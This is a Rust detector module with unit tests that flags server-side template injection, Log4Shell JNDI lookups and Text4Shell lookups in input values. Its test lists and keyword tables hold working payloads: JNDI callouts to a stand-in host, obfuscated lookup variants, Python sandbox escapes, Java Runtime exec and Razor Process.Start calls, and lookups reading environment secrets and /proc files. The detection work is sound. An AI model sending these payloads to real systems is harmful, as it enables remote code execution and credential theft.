//! Server-side template injection and Log4Shell-style lookups. Lookups are *resolved* before
//! matching (`${${lower:j}ndi:…}`, `${${::-j}${::-n}di:…}`, `${env:X:-j}` all become `jndi:`),
//! with bounded nesting. Template expressions (`{{…}}`, `{%…%}`, `${…}`, Velocity `$!{…}`,
//! `#{…}`, `*{…}`, `<%…%>`, `<#…>`, OGNL `%{…}`, Freemarker `[=…]` and `[#…]`, Smarty `{$…}`,
//! Razor `@(…)`) are reported when their content computes or reaches objects (arithmetic,
//! calls, dunder attributes, well-known template globals, Go template actions), not when they
//! merely name a variable (`{{ name }}`).

use super::subject::{class, find, find_iter, gate, is_word, Hit, Needs, Subject, Tables};

/// Deepest lookup nesting resolved; deeper nesting is itself reported.
const MAX_NESTING: usize = 12;

const LOOKUPS: &[&[u8]] = &[
    b"${env:",
    b"${sys:",
    b"${java:",
    b"${ctx:",
    b"${main:",
    b"${bundle:",
    b"${docker:",
    b"${k8s:",
    b"${spring:",
    b"${web:",
    b"${base64:",
    b"${lower:",
    b"${upper:",
    b"${::-",
    b"${log4j:",
    b"${jvmrunargs:",
    b"${sd:",
    b"${marker:",
    b"${map:",
    b"${event:",
    b"${date:",
];

/// Apache Commons Text's default lookups (`StringSubstitutor.createInterpolator`, the
/// Text4Shell class, CVE-2022-42889): a script run, a URL fetched, a file or a name resolved.
const TEXT_LOOKUPS: &[&[u8]] = &[
    b"script",
    b"url",
    b"dns",
    b"file",
    b"xml",
    b"properties",
    b"const",
    b"localhost",
    b"resourcebundle",
    b"base64decoder",
    b"base64encoder",
    b"urldecoder",
    b"urlencoder",
];

/// Of [`TEXT_LOOKUPS`], those that take two arguments (`${url:UTF-8:https://…}`,
/// `${file:UTF-8:/etc/passwd}`): a Spring placeholder with a default, `${url:http://x}`, is
/// not one.
const TWO_ARGUMENTS: &[&[u8]] = &[b"script", b"url", b"file", b"xml", b"properties"];

/// `${name:…}` with a [`TEXT_LOOKUPS`] name; not a shell's expansion of a variable so named
/// (`${url:-default}`, `${file:?}`, `${url:0:5}`), whose operator follows the colon.
fn text_lookup(b: &[u8]) -> Option<Hit> {
    find_iter(b, b"${").take(64).find_map(|p| {
        let rest = &b[p + 2..];
        let name = TEXT_LOOKUPS
            .iter()
            .find(|n| rest.starts_with(n) && rest.get(n.len()) == Some(&b':'))?;
        let arg = &rest[name.len() + 1..];
        let shell = arg
            .first()
            .is_none_or(|c| matches!(c, b'-' | b'=' | b'+' | b'?' | b'}') || c.is_ascii_digit());
        if shell {
            return None;
        }
        if TWO_ARGUMENTS.contains(name) {
            let first = arg
                .iter()
                .take_while(|c| !matches!(c, b':' | b'}') && !c.is_ascii_whitespace())
                .count();
            if arg.get(first) != Some(&b':') || arg[first + 1..].starts_with(b"//") {
                return None;
            }
        }
        Some(Hit::new("ssti.text_lookup", p, p + 3 + name.len()))
    })
}

const OPENERS: &[(&[u8], &[u8])] = &[
    (b"{{", b"}}"),
    (b"{%", b"%}"),
    (b"${", b"}"),
    // Velocity's quiet reference.
    (b"$!{", b"}"),
    (b"#{", b"}"),
    (b"*{", b"}"),
    (b"@{", b"}"),
    (b"<%", b"%>"),
    (b"<#", b">"),
    (b"#set(", b")"),
    // Velocity's conditional: its content is the condition.
    (b"#if(", b")"),
    (b"%{", b"}"),
    (b"[=", b"]"),
    (b"[#", b"]"),
    (b"{$", b"}"),
    (b"@(", b")"),
];

/// Go template actions that print or call (`{{printf "%s" .Secret}}`, `{{call .F}}`) or define
/// and run templates; `{{.}}` prints the whole data object.
const GO_ACTIONS: &[&[u8]] = &[
    b"printf ",
    b"print ",
    b"println ",
    b"call ",
    b"define ",
    b"template ",
    b"block ",
    b"index ",
];

const ACTIVE: &[&[u8]] = &[
    b"__",
    b"config",
    b"self",
    b"request",
    b"lipsum",
    b"cycler",
    b"joiner",
    b"namespace",
    b"settings",
    b"getclass",
    b"class.",
    b".class",
    b"runtime",
    b"processbuilder",
    b"exec",
    b"freemarker",
    b"?new",
    b"t(",
    b"new ",
    b"|attr",
    b"|join",
    b"|map",
    b"import",
    b"_self",
    b"environment",
    b"application",
    b"session",
    b"context",
    // JSP EL's implicit objects: `${sessionScope}` lists a session's attributes.
    b"pagecontext",
    b"pagescope",
    b"requestscope",
    b"sessionscope",
    b"applicationscope",
    b"initparam",
    b"object",
    b"system",
    b"@java",
    b"#this",
    b"#root",
    b"#_memberaccess",
    b"popen",
    b"eval",
    b"include",
    b"constructor",
    b"global.",
    b"process.",
    b"require",
    b"getruntime",
    b"forname",
    b"invoke",
    b"mro",
    b"smarty",
];

/// Openers without a brace, angle or hash (Razor `@(…)`, Freemarker's square syntax, inline
/// `[[…]]`), and the .NET root namespace after Razor's `@`.
const BARE_OPENERS: &[&str] = &["@(", "[=", "[[", "@system."];

/// What `detect` needs to fire (see [`Needs`]): an expression's opener.
pub(crate) fn needs() -> Needs {
    Needs::classes(class::BRACE | class::ANGLE | class::HASH).or_words(BARE_OPENERS)
}

/// Finds template injection or lookup injection in one value.
pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
    if !s.has(class::BRACE | class::ANGLE | class::HASH | class::AT | class::BRACKET) {
        return None;
    }
    let b = s.bytes();
    // Razor: `@System.Diagnostics.Process.Start(…)` calls into .NET from the template.
    if let Some(p) = find(b, b"@system.") {
        let chain = b[p + 8..]
            .iter()
            .take(128)
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_'))
            .count();
        if b.get(p + 8 + chain) == Some(&b'(') {
            return Some(Hit::new("ssti.template_expression", p, p + 8 + chain));
        }
    }
    if s.gate(gate::LOOKUP) {
        if let Some(p) = find(b, b"${") {
            if let Some(at) = jndi(&b[p..]) {
                return Some(Hit::new("ssti.jndi", p + at, (p + at + 12).min(b.len())));
            }
            for l in LOOKUPS {
                if let Some(q) = find(&b[p..], l) {
                    return Some(Hit::new("ssti.log4j_lookup", p + q, p + q + l.len()));
                }
            }
            if let Some(h) = text_lookup(&b[p..]) {
                return Some(Hit::new(h.rule, p + h.start, p + h.end));
            }
        }
    }
    for (open, close) in OPENERS {
        // Each expression costs up to a window: a bounded number is examined per value.
        for start in find_iter(b, open).take(256) {
            let from = start + open.len();
            let window = &b[from..b.len().min(from + 512)];
            let Some(end) = find(window, close) else {
                break;
            };
            let content = &window[..end];
            let probe = if *open == b"#if(" {
                constant_condition(content)
            } else {
                active(content, s.paranoia)
            };
            if probe {
                return Some(Hit::new(
                    "ssti.template_expression",
                    start,
                    from + end + close.len(),
                ));
            }
        }
    }
    if let Some(h) = polyglot(b) {
        return Some(h);
    }
    if s.has(class::BRACE | class::BRACKET) {
        return bare_arithmetic(b);
    }
    None
}

/// Openers of template languages, for [`polyglot`]: each a different engine family's.
const POLYGLOT_OPENERS: &[&[u8]] = &[b"${", b"{{", b"<%", b"[%", b"#{", b"{%", b"{#", b"@("];

/// A fuzz string made of several template languages' openers at once (`${{<%[%'"}}%\.`,
/// what scanners send first to make whichever engine is there fail): three engines' openers
/// in a value too short to be a template of its own. A page that documents templates is
/// longer than this.
fn polyglot(b: &[u8]) -> Option<Hit> {
    if b.len() > 48 {
        return None;
    }
    let distinct = POLYGLOT_OPENERS
        .iter()
        .filter(|o| find(b, o).is_some())
        .count();
    (distinct >= 3).then(|| Hit::new("ssti.template_expression", 0, b.len()))
}

/// A rendering probe with no engine's opener: literal arithmetic alone between braces or
/// double brackets (`{7*7}`, Pug's `!{7*7}`, Dust's `{@1337*4242}`, `[[1337*4242]]`,
/// SSTImap's `}{=(30+65)*79}{=`). Data names things between delimiters; only a scanner asks a
/// template to multiply constants. A product, or a sum of canary-sized numbers (five digits
/// or more each), written without blanks: `{2020-2021}`, LaTeX's `\frac{1}{2+3}` and
/// `2^{9*64}`, and a code block `{ 32 * 16 }` or `{ 2**3 }` are not probes.
fn bare_arithmetic(b: &[u8]) -> Option<Hit> {
    for open in memchr::memchr2_iter(b'{', b'[', b).take(256) {
        if open > 0 && matches!(b[open - 1], b'^' | b'_') {
            continue;
        }
        let (from, close) = match (b[open], b.get(open + 1)) {
            (b'{', _) => (open + 1, b'}'),
            (b'[', Some(b'[')) => (open + 2, b']'),
            _ => continue,
        };
        let window = &b[from..b.len().min(from + 64)];
        let Some(end) = memchr::memchr(close, window) else {
            continue;
        };
        let c = &window[..end];
        let c = c
            .strip_prefix(b"=")
            .or_else(|| c.strip_prefix(b"@"))
            .unwrap_or(c);
        if find(c, b"**").is_none() && literal_arithmetic(c) {
            return Some(Hit::new("ssti.template_expression", open, from + end + 1));
        }
    }
    None
}

/// Numbers, parentheses and operators only, with a product or only numbers of five digits or
/// more: `7*7`, `(30+65)*79`, `3354512042+2152966332`.
fn literal_arithmetic(c: &[u8]) -> bool {
    let arithmetic = c.first().is_some_and(|x| x.is_ascii_digit() || *x == b'(')
        && c.iter()
            .all(|x| x.is_ascii_digit() || matches!(x, b'*' | b'+' | b'-' | b'/' | b'(' | b')'));
    let operators = |x: &u8| matches!(x, b'*' | b'+' | b'-' | b'/');
    let numbers = || c.split(|x| !x.is_ascii_digit()).filter(|n| !n.is_empty());
    arithmetic
        && c.iter().any(operators)
        && numbers().count() >= 2
        && (c.contains(&b'*') || numbers().all(|n| n.len() >= 5))
}

/// A test of one constant against another, `1in[1]`, `1 == 1`, `'a' != "b"`, `7 is 7`: what a
/// probe asks to tell engines apart; a template compares its data, not two literals.
fn literal_test(c: &[u8]) -> bool {
    /// The length of a literal at the start of `b`: digits, a quoted string, or a list of them.
    fn literal(b: &[u8]) -> usize {
        match b.first() {
            Some(q @ (b'\'' | b'"')) => memchr::memchr(*q, &b[1..]).map_or(0, |e| e + 2),
            Some(b'[') => {
                let end = memchr::memchr(b']', b).unwrap_or(0);
                let items = b[1..end.max(1)].split(|c| *c == b',').all(|i| {
                    let i = i.trim_ascii();
                    !i.is_empty() && literal(i) == i.len()
                });
                if end > 0 && items {
                    end + 1
                } else {
                    0
                }
            }
            _ => b.iter().take_while(|c| c.is_ascii_digit()).count(),
        }
    }
    let l = literal(c);
    if l == 0 {
        return false;
    }
    let rest = c[l..].trim_ascii_start();
    let Some(op) = [&b"=="[..], b"!=", b"not in", b"in", b"is not", b"is"]
        .into_iter()
        .find(|op| rest.starts_with(op))
    else {
        return false;
    };
    let r = rest[op.len()..].trim_ascii();
    // A word operator is followed by a literal, never by more of a word (`1 inch`).
    !r.is_empty() && literal(r) == r.len()
}

fn active(content: &[u8], paranoia: u8) -> bool {
    let c = content.trim_ascii();
    // ERB/JSP output markers: `<%= … %>`, `<%- … %>`.
    let c = c
        .strip_prefix(b"=")
        .or_else(|| c.strip_prefix(b"-"))
        .unwrap_or(c)
        .trim_ascii();
    if c.is_empty() {
        return false;
    }
    if c.contains(&b'(') || ACTIVE.iter().any(|a| mentions(c, a)) || probe_statement(c) {
        return true;
    }
    if literal_test(c) {
        return true;
    }
    // `{{.}}` and any function given the whole data object, `{{html .}}`.
    if c == b"." || c.ends_with(b" .") || GO_ACTIONS.iter().any(|a| c.starts_with(a)) {
        return true;
    }
    // A filter applied to a constant (`{{7|add:7}}`, `{{ 7 | times: 7 }}`): templates filter
    // their data.
    let number = c.iter().take_while(|x| x.is_ascii_digit()).count();
    let filter = c[number..].trim_ascii_start();
    if number > 0
        && filter.first() == Some(&b'|')
        && filter.get(1..).is_some_and(|f| {
            f.trim_ascii_start()
                .first()
                .is_some_and(u8::is_ascii_alphabetic)
        })
    {
        return true;
    }
    // A product of literals anywhere in the content: `set x = 7*7`, `$x=7*7`.
    let near = |x: Option<&u8>| x.is_some_and(u8::is_ascii_digit);
    for star in memchr::memchr_iter(b'*', c) {
        let before = c[..star]
            .iter()
            .rev()
            .find(|ch| !matches!(ch, b' ' | b'\'' | b'"'));
        let after = c[star + 1..]
            .iter()
            .find(|ch| !matches!(ch, b' ' | b'\'' | b'"'));
        if near(before) && near(after) {
            return true;
        }
    }
    // Arithmetic between literals: `7*7`, `7*'7'`, `7 + 7`.
    let digits = |x: &[u8]| x.iter().any(u8::is_ascii_digit);
    for (i, ch) in c.iter().enumerate() {
        if matches!(ch, b'*' | b'+' | b'/' | b'%' | b'-' | b'^') && i > 0 {
            let (l, r) = (c[..i].trim_ascii(), c[i + 1..].trim_ascii());
            let lit = |x: &[u8]| {
                !x.is_empty()
                    && x.iter()
                        .all(|c| c.is_ascii_digit() || matches!(c, b'\'' | b'"' | b'.'))
            };
            if lit(l) && lit(r) && digits(l) && digits(r) {
                return true;
            }
        }
    }
    paranoia >= 3 && c.iter().any(|ch| matches!(ch, b'[' | b'|' | b'='))
}

/// A statement no template needs and every template-injection scanner sends: a branch on a
/// constant (`{% if True %}`, `<% if 1==1 %>`, `<#if 7 gt 3>`, `{{#if true}}`), a block helper
/// given a literal (`{{#with "s" as |string|}}`, the first line of the Handlebars RCE chain), or
/// Django's context dump (`{% debug %}`). A real template branches on its data.
fn probe_statement(c: &[u8]) -> bool {
    if c.eq_ignore_ascii_case(b"debug") {
        return true;
    }
    let helper = c.first() == Some(&b'#');
    let c = if helper { &c[1..] } else { c };
    let word = c.iter().take_while(|b| b.is_ascii_alphabetic()).count();
    let (name, rest) = c.split_at(word);
    if rest.first().is_some_and(|b| is_word(*b)) || rest.is_empty() {
        return false;
    }
    let name = name.to_ascii_lowercase();
    let branch = matches!(
        &name[..],
        b"if" | b"elif" | b"elsif" | b"elseif" | b"unless" | b"while"
    );
    if branch {
        return constant_condition(rest);
    }
    // A block helper's first argument, when it is a literal: `"s"`, `'s'`, `7`, `true`.
    helper && {
        let arg = rest.trim_ascii_start();
        let first = arg
            .iter()
            .position(|b| b.is_ascii_whitespace())
            .map_or(arg, |e| &arg[..e]);
        literal(first) || matches!(arg.first(), Some(b'"' | b'\''))
    }
}

/// Whether a condition is made of literals only: `True`, `1==1`, `(7 > 3) and "a"`, `!false`.
fn constant_condition(cond: &[u8]) -> bool {
    let mut tokens = 0;
    for token in cond
        .split(|b| b.is_ascii_whitespace() || b"()=!<>&|".contains(b))
        .filter(|t| !t.is_empty())
    {
        let operator = [
            &b"and"[..],
            b"or",
            b"not",
            b"eq",
            b"ne",
            b"gt",
            b"lt",
            b"ge",
            b"le",
            b"gte",
            b"lte",
        ]
        .iter()
        .any(|o| token.eq_ignore_ascii_case(o));
        if !operator && !literal(token) {
            return false;
        }
        tokens += usize::from(!operator);
    }
    tokens > 0
}

/// A literal: a number, a boolean or null in any template language's spelling, or a quoted
/// string.
fn literal(t: &[u8]) -> bool {
    let quoted = t.len() >= 2
        && matches!(t[0], b'"' | b'\'')
        && t[t.len() - 1] == t[0]
        && !t[1..t.len() - 1].contains(&t[0]);
    quoted
        || !t.is_empty() && t.iter().all(|b| b.is_ascii_digit() || *b == b'.') && t[0] != b'.'
        || [&b"true"[..], b"false", b"none", b"nil", b"null"]
            .iter()
            .any(|w| t.eq_ignore_ascii_case(w))
}

/// Whether `content` names `active`: a name (`config`, `self`, `session`) as a whole word,
/// not inside a variable's name (`config_shell`, `user_session`); punctuation (`__`,
/// `class.`, `|attr`) anywhere.
fn mentions(content: &[u8], active: &[u8]) -> bool {
    if !active.iter().all(u8::is_ascii_alphabetic) {
        return find(content, active).is_some();
    }
    let word = |c: Option<&u8>| c.is_some_and(|c| is_word(*c));
    find_iter(content, active).any(|p| {
        let before = p.checked_sub(1).and_then(|i| content.get(i));
        !word(before) && !word(content.get(p + active.len()))
    })
}

/// Resolves Log4j lookups; the offset of a lookup that resolves to `jndi:`.
fn jndi(b: &[u8]) -> Option<usize> {
    if find(b, b"${jndi:").is_some() {
        return find(b, b"${jndi:");
    }
    let mut frames: Vec<(usize, Vec<u8>)> = vec![(0, Vec::new())];
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' && b.get(i + 1) == Some(&b'{') {
            if frames.len() > MAX_NESTING {
                return Some(i);
            }
            frames.push((i, Vec::new()));
            i += 2;
            continue;
        }
        if b[i] == b'}' && frames.len() > 1 {
            let (start, content) = frames.pop()?;
            if content.starts_with(b"jndi:") {
                return Some(start);
            }
            let resolved: &[u8] = if let Some(p) = find(&content, b":-") {
                &content[p + 2..]
            } else if content.starts_with(b"lower:") || content.starts_with(b"upper:") {
                &content[6..]
            } else if let Some(q) = content.strip_prefix(b"date:'") {
                // A date pattern's quoted text is printed as it is.
                q.strip_suffix(b"'").unwrap_or(q)
            } else {
                &[]
            };
            let resolved = resolved.to_vec();
            if let Some(top) = frames.last_mut() {
                top.1.extend_from_slice(&resolved);
            }
            i += 1;
            continue;
        }
        if let Some(top) = frames.last_mut() {
            if top.1.len() < 64 {
                top.1.push(b[i]);
            }
        }
        i += 1;
    }
    frames[1..]
        .iter()
        .find(|(_, c)| c.starts_with(b"jndi:"))
        .map(|(s, _)| *s)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::subject::test_subject;

    fn rule(text: &str) -> Option<&'static str> {
        test_subject(text, 1, detect).map(|h| h.rule)
    }

    #[test]
    fn polyglots_of_three_engines_are_probes() {
        for probe in ["${{<%[%'\"}}%\\.", "<%'${{/#{@}}%>{{", "{{${<%[%#{"] {
            assert_eq!(rule(probe), Some("ssti.template_expression"), "{probe}");
        }
        // Two engines' syntax, or a longer text about templates, is not.
        for text in [
            "${name} and {{name}}",
            "use {{ name }}, ${name} or <%= name %> in your template of choice",
        ] {
            assert_eq!(rule(text), None, "{text}");
        }
    }

    /// Hackmanit's engine-telling probes compare constants; placeholders and data do not.
    #[test]
    fn tests_of_constants() {
        for a in [
            "{{1in[1]}}",
            "{{ 1 == 1 }}",
            "{{'a' != \"b\"}}",
            "${7 is 7}",
        ] {
            assert_eq!(rule(a), Some("ssti.template_expression"), "{a}");
        }
        for b in [
            "Hi {{1}}, your order {{2}} ships",
            "{{1 inch}}",
            "{{ user == admin }}",
            "[1] in stock",
        ] {
            assert_eq!(rule(b), None, "false positive on {b}");
        }
    }

    /// Commons Text's lookups as Text4Shell scanners send them; a shell's expansions of
    /// variables with the same names are data.
    #[test]
    fn commons_text_lookups() {
        for a in [
            "${script:js:new java.io.File('/x').delete()}",
            "${url:UTF-8::https://cb.example.net/a}",
            "${dns:address|cb.example.net}",
            "${file:UTF-8:/proc/self/environ}",
            "${properties:/var/task/app.properties::db.password}",
            "${const:java.lang.System.out}",
            "${base64Decoder:SGVsbG8=}",
            "x=${localhost:canonical-name}",
        ] {
            assert_eq!(rule(a), Some("ssti.text_lookup"), "{a}");
        }
        for b in [
            "${url:-http://localhost}",
            "${url:http://localhost:8080}",
            "${file:none}",
            "${file:?is required}",
            "${dns}",
            "${script:=run.sh}",
            "${urls:a}",
            "{url: x}",
        ] {
            assert_eq!(rule(b), None, "false positive on {b}");
        }
    }

    #[test]
    fn attacks() {
        for (a, r) in [
            ("${jndi:ldap://evil.example/a}", "ssti.jndi"),
            ("${${lower:j}ndi:ldap://x/a}", "ssti.jndi"),
            ("${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "ssti.jndi"),
            (
                "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x}",
                "ssti.jndi",
            ),
            ("${env:AWS_SECRET_ACCESS_KEY}", "ssti.log4j_lookup"),
            ("{{7*7}}", "ssti.template_expression"),
            ("{{ config.items() }}", "ssti.template_expression"),
            (
                "{{''.__class__.__mro__[1].__subclasses__()}}",
                "ssti.template_expression",
            ),
            (
                "${T(java.lang.Runtime).getRuntime().exec('id')}",
                "ssti.template_expression",
            ),
            ("<%= 7*7 %>", "ssti.template_expression"),
            ("#{7*7}", "ssti.template_expression"),
            ("$!{7*7}", "ssti.template_expression"),
            ("${sessionScope}", "ssti.template_expression"),
            ("${applicationScope.dbPassword}", "ssti.template_expression"),
            ("{% set x = 7*7 %}{{x}}", "ssti.template_expression"),
            ("#set($x=7*7)${x}", "ssti.template_expression"),
            ("%{7*7}", "ssti.template_expression"),
            ("[=7*7]", "ssti.template_expression"),
            ("{$smarty.version}", "ssti.template_expression"),
            ("@(7*7)", "ssti.template_expression"),
            (
                "@System.Diagnostics.Process.Start(\"cmd\")",
                "ssti.template_expression",
            ),
            ("{{.}}", "ssti.template_expression"),
            ("{{printf \"%s\" .Secret}}", "ssti.template_expression"),
            ("{{html .}}", "ssti.template_expression"),
            ("{{define \"t\"}}x{{end}}", "ssti.template_expression"),
            ("${date:MM-dd-yyyy}", "ssti.log4j_lookup"),
            (
                "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
                "ssti.jndi",
            ),
            (
                "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
                "ssti.template_expression",
            ),
            // Branches on constants, literal block helpers, context dumps.
            ("{% if True %}49{% endif %}", "ssti.template_expression"),
            ("<% if True %>49<% endif %>", "ssti.template_expression"),
            ("{%if 1==1%}x{%endif%}", "ssti.template_expression"),
            ("<#if 7 gt 3>x</#if>", "ssti.template_expression"),
            ("#if(1==1)x#end", "ssti.template_expression"),
            ("{{#if true}}x{{/if}}", "ssti.template_expression"),
            ("{{#with \"s\" as |string|}}", "ssti.template_expression"),
            ("{% debug %}", "ssti.template_expression"),
            // Rendering probes: a filter on a constant, bare literal arithmetic.
            ("{{7|add:7}}", "ssti.template_expression"),
            ("{{ 7 | times: 7 }}", "ssti.template_expression"),
            ("{7*7}", "ssti.template_expression"),
            ("!{7*7}", "ssti.template_expression"),
            ("{@1337*4242}", "ssti.template_expression"),
            ("[[1337*4242]]", "ssti.template_expression"),
            ("1:}{=(30+65)*79}{=1", "ssti.template_expression"),
            ("]]}{496643083+205034718}{1", "ssti.template_expression"),
        ] {
            assert_eq!(rule(a), Some(r), "{a}");
        }
    }

    #[test]
    fn templates_and_prose_pass() {
        for b in [
            "Hello {{ name }}",
            "${user.name}",
            "{% endif %}",
            "{\"a\": 1}",
            "#{id}",
            "cost: ${price}",
            "{$name}",
            "[=name]",
            "mail me @(office)",
            "a 7*7 grid {of tiles}",
            "{{ .Name }}",
            "{{ template_name }}",
            // Names that contain an active word are variables, not that object.
            "${config_shell} with ${moveifchange}",
            "{{ user_session }} and {{ system_name }}",
            "${objectKey}",
            // Templates branch on their data, and helpers take variables.
            "{% if user.is_admin %}Admin{% endif %}",
            "{{#if order.paid}}Paid{{/if}}",
            "{{#each items}}{{name}}{{/each}}",
            "{{#with author as |a|}}{{a.name}}{{/with}}",
            "<#if price gt 0>${price}</#if>",
            "#if($user)Hi#end",
            "{% if %}",
            "{{#iffy}}",
            // Braces around ranges, LaTeX, filters on data, logical or.
            "{2020-2021}",
            "\\frac{1}{2+3}",
            "{1, 2, 3}",
            "[[1, 2], [3, 4]]",
            "{{ price | round }}",
            "{{7||x}}",
            "{12345}",
            "2^{9*64} = 2^576",
            "if Self::ENABLE { 32 * 16 } else { 0 }",
            "sub PUBLIC () { 2**0 }",
            "x_{2*i+1}",
        ] {
            assert_eq!(rule(b), None, "false positive on {b}");
        }
    }
}
